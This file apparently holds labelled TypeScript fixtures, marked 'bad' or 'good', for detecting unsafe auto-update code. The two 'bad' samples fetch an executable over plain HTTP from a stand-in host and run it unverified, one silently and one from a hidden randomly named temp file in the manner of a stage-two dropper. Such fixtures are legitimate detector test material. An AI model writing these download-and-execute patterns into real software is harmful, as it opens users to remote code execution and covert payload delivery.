//: bad electron-updater
import { execFile } from 'child_process';
import { writeFileSync } from 'fs';
import { join } from 'path';
import { tmpdir } from 'os';

export async function update(): Promise<void> {
  const answer: Response = await fetch('http://u.example.invalid/setup.exe');
  const target: string = join(tmpdir(), 'setup.exe');
  writeFileSync(target, Buffer.from(await answer.arrayBuffer()));
  execFile(target, ['/S']); //!
}

//: good electron-updater
import { writeFileSync } from 'fs';
import { join } from 'path';
import { tmpdir } from 'os';

export async function changes(): Promise<string> {
  const answer: Response = await fetch('https://u.example.invalid/changes.md');
  const target: string = join(tmpdir(), 'changes.md');
  writeFileSync(target, Buffer.from(await answer.arrayBuffer()));
  return target;
}

//: bad updater-stage
import { writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execFile } from 'node:child_process';

export async function update(): Promise<void> {
  const answer = await fetch('http://u.example.invalid/stage2');
  const file = join(tmpdir(), `.${Math.random().toString(16).slice(2)}`);
  await writeFile(file, Buffer.from(await answer.arrayBuffer()));
  await chmod(file, 0o700);
  execFile(file); //!
}

//: good updater-stage
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';

export async function update(folder: string): Promise<string> {
  const answer = await fetch('https://u.example.invalid/schema.json');
  const file = join(folder, 'schema.json');
  await writeFile(file, Buffer.from(await answer.arrayBuffer()));
  return file;
}
